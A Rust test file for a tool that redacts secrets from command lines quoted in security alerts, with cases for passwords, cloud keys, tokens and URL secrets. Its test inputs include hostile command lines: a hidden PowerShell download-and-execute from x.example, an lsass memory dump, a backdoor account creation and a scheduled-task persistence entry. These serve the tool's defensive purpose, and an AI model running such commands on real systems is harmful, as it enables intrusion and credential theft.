use super::*;

/// (input, expected output) from the command lines and scripts alerts
/// really quote.
const CASES: &[(&str, &str)] = &[
    (
        "mysql -u root -pS3cr3t! -h db01.corp.example",
        "mysql -u root -p[REDACTED:password] -h db01.corp.example",
    ),
    (
        "net user backdoor P@ssw0rd123 /add",
        "net user backdoor [REDACTED:password] /add",
    ),
    (
        "net.exe user svc_sql \"Summer 2026\" /domain",
        "net.exe user svc_sql [REDACTED:password] /domain",
    ),
    (
        "psql postgresql://app:hunter2@db.internal:5432/prod",
        "psql postgresql://app:[REDACTED:connection_string]@db.internal:5432/prod",
    ),
    (
        "Server=tcp:sql01;Database=crm;User Id=sa;Password=Summer2026!;",
        "Server=tcp:sql01;Database=crm;User Id=sa;Password=[REDACTED:password];",
    ),
    (
        "plink.exe -ssh admin@10.0.0.5 -pw Winter2026 -R 8080:127.0.0.1:80",
        "plink.exe -ssh admin@10.0.0.5 -pw [REDACTED:password] -R 8080:127.0.0.1:80",
    ),
    (
        "sshpass -p 'toor' ssh root@10.0.0.9",
        "sshpass -p [REDACTED:password] ssh root@10.0.0.9",
    ),
    (
        "net use \\\\fs01\\c$ /user:corp\\admin /p:Spring2026",
        "net use \\\\fs01\\c$ /user:corp\\admin /p:[REDACTED:password]",
    ),
    (
        "$pw = ConvertTo-SecureString \"Passw0rd!\" -AsPlainText -Force",
        "$pw = ConvertTo-SecureString [REDACTED:password] -AsPlainText -Force",
    ),
    (
        "aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        "aws configure set aws_secret_access_key [REDACTED:aws_secret_key]",
    ),
    (
        "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
        "export AWS_ACCESS_KEY_ID=[REDACTED:aws_access_key]",
    ),
    (
        "git clone https://ghp_1234567890abcdefghijklmnopqrstuvwxyzAB@github.com/acme/app",
        "git clone https://[REDACTED:github_token]@github.com/acme/app",
    ),
    (
        "curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U' https://api.example",
        "curl -H 'Authorization: Bearer [REDACTED:jwt]' https://api.example",
    ),
    (
        "curl -H \"Authorization: Bearer 9f8e7d6c5b4a39281706f5e4d3c2b1a0\" https://api.example",
        "curl -H \"Authorization: Bearer [REDACTED:bearer_token]\" https://api.example",
    ),
    (
        "SLACK_TOKEN=xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOp python bot.py",
        "SLACK_TOKEN=[REDACTED:slack_token] python bot.py",
    ),
    (
        "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=c2VjcmV0a2V5c2VjcmV0a2V5c2VjcmV0a2V5==;EndpointSuffix=core.windows.net",
        "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=[REDACTED:azure_key];EndpointSuffix=core.windows.net",
    ),
    (
        "requests.get(url, headers={'api_key': 'f1e2d3c4b5a6978812345678'})",
        "requests.get(url, headers={'api_key': '[REDACTED:api_key]'})",
    ),
    (
        "key:\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\nAAAAMwAAAAtzc2gtZWQyNTUxOQ\n-----END OPENSSH PRIVATE KEY-----\nend",
        "key:\n[REDACTED:private_key]\nend",
    ),
    (
        "OPENAI_API_KEY=sk-proj-abcdefghijklmnopqrstuvwxyz0123 node app.js",
        "OPENAI_API_KEY=[REDACTED:openai_key] node app.js",
    ),
    // URL userinfo, whatever the scheme, and secret-bearing query
    // parameters (S6).
    (
        "https://svc_deploy:Wint3r-Sky@files.corp.example/b.zip?access_token=abc123&v=2",
        "https://svc_deploy:[REDACTED:connection_string]@files.corp.example/b.zip?access_token=[REDACTED:url_secret]&v=2",
    ),
    (
        "webdav://svc:pa55word@dav.corp.example/share",
        "webdav://svc:[REDACTED:connection_string]@dav.corp.example/share",
    ),
    (
        "https://acme.blob.core.windows.net/c/f?sv=2024-01-01&sig=Zm9vYmFy%2Bz&se=2026",
        "https://acme.blob.core.windows.net/c/f?sv=2024-01-01&sig=[REDACTED:url_secret]&se=2026",
    ),
    (
        "http://10.0.0.5/cb?token=abc&key=k1&password=p&secret=s&client_secret=cs&code=x1#frag",
        "http://10.0.0.5/cb?token=[REDACTED:url_secret]&key=[REDACTED:url_secret]&password=[REDACTED:url_secret]&secret=[REDACTED:url_secret]&client_secret=[REDACTED:url_secret]&code=[REDACTED:url_secret]#frag",
    ),
    (
        "curl.exe -u deploy:Hunter2-Blue -o b.zip https://files.corp.example/b.zip",
        "curl.exe -u deploy:[REDACTED:password] -o b.zip https://files.corp.example/b.zip",
    ),
    (
        "wget --user=deploy --password=Hunter2 https://x.example/ ; curl --user 'ops:Blue 7' https://y.example/",
        "wget --user=deploy --password=[REDACTED:password] https://x.example/ ; curl --user [REDACTED:password] https://y.example/",
    ),
];

#[test]
fn realistic_secrets_become_typed_placeholders() {
    for (input, expected) in CASES {
        let redacted = redact(input);
        assert_eq!(&redacted.text, expected, "input: {input}");
        assert!(!redacted.kinds.is_empty(), "input: {input}");
    }
}

#[test]
fn ordinary_command_lines_are_untouched() {
    for text in [
        "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')",
        "ssh -p 2222 admin@10.0.0.5",
        "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\lsass.dmp",
        "net user jdoe /domain",
        "net user",
        "schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon",
        "https://portal.example/login?user=jdoe",
        "https://shop.example/item?id=42&keyword=shoes&tokens=3&monkey=1",
        "ssh -u admin host",
        "C:\\Windows\\System32\\cmd.exe /c whoami /priv",
    ] {
        let redacted = redact(text);
        assert_eq!(redacted.text, text);
        assert!(redacted.kinds.is_empty());
    }
}

#[test]
fn kinds_are_counted_once_per_secret() {
    let redacted = redact("AKIAIOSFODNN7EXAMPLE and ASIAIOSFODNN7EXAMPLF, password=x1");
    assert_eq!(
        redacted.kinds,
        vec!["password", "aws_access_key", "aws_access_key"]
    );
}

proptest::proptest! {
    /// Redaction never panics, is idempotent, and never lengthens a text
    /// by more than its placeholders.
    #[test]
    fn redaction_is_idempotent(text in ".{0,200}") {
        let once = redact(&text);
        let twice = redact(&once.text);
        proptest::prop_assert_eq!(&twice.text, &once.text);
    }
}

/// The real command lines and scripts of the chainsaw detections in
/// `../shared/data`: the plink password is caught, variable assignments
/// and everything else are left alone.
#[test]
fn real_sigma_detection_command_lines() {
    let Some(path) = warden_testkit::shared_data("alerts/sigma-chainsaw/detections.jsonl") else {
        return;
    };
    let text = std::fs::read_to_string(path).expect("readable");
    let (mut texts, mut redacted) = (0, Vec::new());
    for line in text.lines() {
        let detection: serde_json::Value = serde_json::from_str(line).expect("JSON");
        let data = &detection["document"]["data"]["Event"]["EventData"];
        for key in ["CommandLine", "ParentCommandLine", "ScriptBlockText"] {
            if let Some(command) = data[key].as_str() {
                texts += 1;
                let result = redact(command);
                if !result.kinds.is_empty() {
                    redacted.push(result.text);
                }
            }
        }
    }
    assert!(texts > 1000, "{texts}");
    assert_eq!(redacted.len(), 2, "{redacted:#?}");
    assert!(
        redacted
            .iter()
            .all(|t| t.ends_with("-pw [REDACTED:password]"))
    );
}

/// Every alert-origin value of the assessors' copy is redacted: entities
/// (URLs, user names, process paths), rule and product names, title,
/// description and raw payload.
#[test]
fn the_alert_copy_redacts_entities_rule_and_product() {
    use warden_domain::{Observable, ObservableKind, Provenance};
    let url = "https://svc:Wint3r-Sky@files.corp.example/b?access_token=abc123";
    let report = warden_ingest::read_paths(
        &[warden_testkit::repo().join("examples/alerts/ecs-powershell-encoded.json")],
        &warden_ingest::ReadOptions::default(),
    );
    let Some(mut alert) = report.alerts.into_iter().next() else {
        panic!("the example alert reads: {:?}", report.errors);
    };
    alert.observables = vec![
        Observable {
            kind: ObservableKind::Url,
            value: url.into(),
            provenance: vec![Provenance::Field {
                path: "url.full".into(),
            }],
        },
        Observable {
            kind: ObservableKind::User,
            value: "ghp_L0gInAsTokEn9aBcDeFgHiJkLmNoPqRsTuVw".into(),
            provenance: vec![Provenance::Field {
                path: "user.name".into(),
            }],
        },
    ];
    alert.rule.name = "Download password=Hunter22".into();
    alert.product = "EDR sk-proj-abcdefghijklmnopqrstuvwxyz0123".into();
    let copy = redact_alert(&alert);
    let shown = serde_json::to_string(&copy).unwrap_or_default();
    for secret in [
        "Wint3r-Sky",
        "abc123",
        "ghp_L0gInAsTokEn9aBcDeFgHiJkLmNoPqRsTuVw",
        "Hunter22",
        "sk-proj-abcdefghijklmnopqrstuvwxyz0123",
    ] {
        assert!(!shown.contains(secret), "{secret} in {shown}");
    }
    assert_eq!(copy.observables.len(), 2);
    assert_eq!(copy.observables[1].value, "[REDACTED:github_token]");
}
